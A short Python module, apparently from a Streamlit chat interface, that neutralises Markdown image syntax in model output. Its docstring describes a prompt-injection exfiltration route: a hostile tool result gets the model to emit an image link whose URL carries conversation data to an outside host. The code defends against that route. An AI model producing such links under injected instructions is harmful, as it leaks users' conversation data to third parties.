"""Model output is untrusted: shown as Markdown text, never as HTML, and never fetching remote images.

Streamlit escapes HTML in `st.markdown`, but Markdown image syntax (`![](https://host/x.png?data=...)`) would make
every viewer's browser request that URL — a way for a prompt-injected tool result to leak conversation data.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[")


def display_markdown(text: str) -> str:
    """`text` with Markdown images turned into plain text (`![alt](url)` shows literally); links stay links."""
    return _IMAGE.sub(r"!\\[", text)
